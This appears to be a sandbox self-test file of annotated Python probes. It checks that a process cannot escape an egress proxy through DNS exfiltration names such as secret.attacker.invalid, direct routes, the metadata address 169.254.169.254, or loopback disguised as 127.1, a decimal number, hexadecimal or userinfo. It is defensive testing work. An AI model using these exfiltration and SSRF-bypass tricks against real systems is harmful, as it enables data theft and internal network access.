# `#: ID ROW TITLE` begins a probe, see docs/selftest.md; the helpers come from sheet.py.
# The way out leads to allowed.invalid, which nobody is, and to one address that it must refuse.
#: F-69-proxy-name 69 have the proxy look up a name that carries something out
#: way-out
#: no-control it would ask the resolver of this machine
by_proxy("secret.attacker.invalid", 443)
#: F-69-proxy-below 69 have it look up a name below an allowed one
#: way-out
#: no-control it would ask the resolver of this machine
by_proxy("secret.allowed.invalid", 443)
#: F-69-proxy-plain 69 have it look up a name in a request that is not encrypted
#: way-out
#: no-control it would ask the resolver of this machine
by_proxy("secret.attacker.invalid", 80, "GET http://secret.attacker.invalid/")
#: F-69-proxy-port 69 have it lead to the name server of an allowed host
#: way-out
#: no-control it would ask the resolver of this machine
by_proxy("allowed.invalid", 53)
#: F-69-beside-proxy 69 resolve a name beside the proxy
#: way-out
#: no-control it would ask the resolver of this machine
socket.getaddrinfo("example.com", 443)  # one that is there: an answer that it is not is one, too
saw("resolved")
#: F-69-server-beside-proxy 69 ask a name server beside the proxy
#: way-out
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.53", 53))
saw("there is a route")
#: F-70-host 70 connect to an allowed host without the proxy
#: way-out
#: scene
caller = socket.create_connection(("127.0.0.1", SCENE["tcp4"]), 3)
saw(caller.recv(4))
#: F-70-host6 70 connect to the host's ::1 without the proxy
#: way-out
#: scene
caller = socket.create_connection(("::1", SCENE["tcp6"]), 3)
saw(caller.recv(4))
#: F-70-host-datagram 70 send a datagram to an allowed host
#: way-out
#: scene
caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
caller.settimeout(3)
caller.connect(("127.0.0.1", SCENE["udp4"]))
caller.send(b"ping")
saw(caller.recv(4))
#: F-70-world 70 find a route to 192.0.2.1 beside the proxy
#: way-out
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 80))
saw("there is a route")
#: F-70-quic 70 find a route for QUIC beside the proxy
#: way-out
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 443))
saw("there is a route")
#: F-70-world6 70 find a route to 2001:db8::1 beside the proxy
#: way-out
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(("2001:db8::1", 443))
saw("there is a route")
#: F-70-mapped6 70 find a route to ::ffff:192.0.2.1 beside the proxy
#: way-out
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(("::ffff:192.0.2.1", 443))
saw("there is a route")
#: F-70-metadata 70 find a route to 169.254.169.254 beside the proxy
#: way-out
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("169.254.169.254", 80))
saw("there is a route")
#: F-70-multicast 70 find a route to 224.0.0.1 beside the proxy
#: way-out
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("224.0.0.1", 443))
saw("there is a route")
#: F-70-interfaces 70 find an interface beside the loopback
#: way-out
interfaces()
#: F-70-listener 70 hold the socket on which the proxy is asked
#: way-out
#: no-control there is no proxy
for name in descriptors():
    try:
        held = socket.socket(fileno=os.dup(name))
        if held.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            saw("descriptor %d" % name)
    except OSError:
        pass  # no socket
if not seen:
    raise Blocked("none")
#: F-70-proxy-host 70 have the proxy lead to this machine
#: way-out
#: scene
by_proxy("127.0.0.1", SCENE["tcp4"])
#: F-70-proxy-host-plain 70 have it lead to this machine in a request that is not encrypted
#: way-out
#: scene
by_proxy("127.0.0.1", SCENE["tcp4"], "GET http://127.0.0.1:%d/" % SCENE["tcp4"])
#: F-70-proxy-host6 70 have it lead to ::1
#: way-out
#: scene
by_proxy("::1", SCENE["tcp6"])
#: F-70-proxy-localhost 70 have it lead to localhost
#: way-out
#: scene
by_proxy("localhost", SCENE["tcp4"])
#: F-70-proxy-short 70 write this machine as 127.1
#: way-out
#: scene
by_proxy("127.1", SCENE["tcp4"])
#: F-70-proxy-number 70 write this machine as one number
#: way-out
#: scene
by_proxy("2130706433", SCENE["tcp4"])
#: F-70-proxy-hexadecimal 70 write this machine in hexadecimal digits
#: way-out
#: scene
by_proxy("0x7f.1", SCENE["tcp4"])
#: F-70-proxy-any 70 write this machine as 0.0.0.0
#: way-out
#: scene
by_proxy("0.0.0.0", SCENE["tcp4"])
#: F-70-proxy-mapped 70 write this machine as ::ffff:127.0.0.1
#: way-out
#: scene
by_proxy("::ffff:127.0.0.1", SCENE["tcp4"])
#: F-70-proxy-service 70 have it lead to another service of this machine
#: way-out
#: scene
by_proxy("::1", SCENE["tcp6"], "GET http://[::1]:%d/" % SCENE["tcp6"])
#: F-70-proxy-user 70 hide this machine behind the name of an allowed host
#: way-out
#: scene
by_proxy("127.0.0.1", SCENE["tcp4"], "GET http://allowed.invalid@127.0.0.1:%d/" % SCENE["tcp4"])
#: F-70-proxy-metadata 70 have it lead to 169.254.169.254
#: way-out
#: no-control it would ask a service of this machine's network
by_proxy("169.254.169.254", 80)
#: F-70-proxy-itself 70 have it lead to itself
#: way-out
#: no-control there is no proxy
by_proxy("127.0.0.1", 3128)
